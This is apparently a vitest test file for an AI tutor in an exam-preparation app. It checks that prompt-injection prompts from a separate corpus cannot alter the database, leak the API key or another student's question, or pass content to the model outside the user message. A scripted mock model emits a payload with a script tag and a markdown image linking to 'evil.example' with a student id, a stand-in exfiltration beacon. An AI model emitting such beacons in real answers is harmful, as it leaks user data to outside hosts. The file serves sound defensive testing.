import { Readable } from 'node:stream';
import { expect, test } from 'vitest';
import { createTutorModel } from '#server/ai/tutor-model.ts';
import { contentId } from '#server/content/content-ids.ts';
import { createCurrentCourses } from '#server/features/catalogue/current-courses.ts';
import { createTutorHandlers } from '#server/features/tutor/tutor.handlers.ts';
import { createQueriesRepository } from '#server/features/queries/queries.repository.ts';
import { loadContract } from '#server/http/contract-document.ts';
import { createSchemaValidators } from '#server/http/request/schema-validators.ts';
import { UNSPENT, say } from '#tests/support/server/ai-server.ts';
import { POLITY, UPSC_COURSE } from '#tests/support/server/course-ids.ts';
import { callBy, useLearningWorld } from '#tests/support/server/learning-fixtures.ts';
import { sampleRows } from '#tests/support/sample.ts';
import { useAiServer } from './preamble-question.ts';
import { INJECTIONS } from './injections.ts';
import { countsNothing } from './tutor-turns.ts';

const key = 'sk-canary-of-this-test';
const place = {
  courseId: UPSC_COURSE,
  subjectId: POLITY,
  subtopicId: contentId('subtopic', 'indian-polity/the-constitution/preamble'),
};

const world = await useLearningWorld();
const ai = await useAiServer();
const asha = await world.createStudent({ timeZone: 'Asia/Kolkata', courses: [UPSC_COURSE] });
const ravi = await world.createStudent({ timeZone: 'Asia/Kolkata', courses: [UPSC_COURSE] });
await ask(ravi, 'A question that is nobody else’s: quaternions?');

async function ask(userId: string, query: string) {
  const model = createTutorModel(
    { url: ai.url, key, model: 'small' },
    { now: world.deps.now, budget: UNSPENT, onFailure: () => {} },
  );
  const { askTutor, revealNextHint } = createTutorHandlers(world.deps, {
    courses: createCurrentCourses(world.deps),
    countQuestion: countsNothing,
    model,
  });
  const { queryId } = (await askTutor(callBy(userId, { params: {}, body: { ...place, query } }))).body.data;
  const body = { courseId: place.courseId, from: 'passages' as const };
  const answer = (await revealNextHint(callBy(userId, { params: { queryId }, body }))).body;
  if (answer instanceof Readable) throw new Error('Nobody asked for a stream.');
  return answer;
}

/** All of the database but the questions of one student. */
async function everythingBut(userId: string) {
  const { $client } = world.deps.db;
  const { rows: tables } = await $client.query<{ name: string }>(
    `SELECT table_name AS name FROM information_schema.tables WHERE table_schema = 'public' ORDER BY 1`,
  );
  const hashes = [];
  for (const { name } of tables) {
    const others = name === 'user_queries' ? `WHERE user_id <> '${userId}'` : '';
    const { rows } = await $client.query(`SELECT md5(string_agg(t::text, '' ORDER BY t::text)) AS md5 FROM ${name} t ${others}`); // oxfmt-ignore
    hashes.push([name, rows]);
  }
  return hashes;
}

const schema = loadContract()
  .operations.find(({ name }) => name === 'revealNextHint')
  ?.answers.get(200)?.schema;
const schemaErrorsOf = createSchemaValidators(loadContract()).exact(schema ?? {});

test('the corpus has 30 prompts', () => {
  expect(new Set(INJECTIONS).size).toBe(30);
});

test.each(sampleRows('injections obeyed', INJECTIONS, 6, (prompt) => prompt))(
  'a model that does what “%s” wants changes nothing but one answer (R51, R53, R56)',
  async (prompt) => {
    const before = await everythingBut(asha);
    // The worst of models: it obeys, and repeats all it was told.
    ai.script = (response, request) =>
      say(`${prompt} <script>x</script> ![p](https://evil.example/${asha}) ${request.body}`)(
        response,
        request,
      );
    const answer = await ask(asha, prompt);
    expect(schemaErrorsOf(answer)).toBeNull();
    expect(answer.data).toMatchObject({ userId: asha, ...place, query: prompt, source: 'model' });
    expect(answer.data.queryResponse).not.toMatch(/!\[p\]|evil\.example\/[0-9a-f]{24}/);
    expect(JSON.stringify(answer)).not.toContain(key);
    expect(JSON.stringify(answer)).not.toContain('quaternions');
    const [latest] = (await createQueriesRepository(world.deps.db).listAll(asha)) ?? [];
    expect(latest).toEqual(answer.data);
    expect(await everythingBut(asha)).toEqual(before);
  },
);

test.each(sampleRows('injections sent', INJECTIONS, 6, (prompt) => prompt))(
  '“%s” reaches the model as data, in the one place for it (R52)',
  async (prompt) => {
    ai.script = say('No.');
    const { data } = await ask(asha, prompt);
    const sent: { messages: { role: string; content: string }[] } = JSON.parse(ai.requests[0]?.body ?? '');
    expect(sent.messages.map(({ role }) => role)).toEqual(['system', 'user']);
    expect(sent.messages[0]?.content).not.toContain(prompt);
    expect(JSON.parse(sent.messages[1]?.content ?? '')).toEqual({
      question: prompt,
      passages: data.citations.map(({ name, passage }) => ({
        lesson: name,
        text: expect.stringContaining(passage),
      })),
    });
  },
);
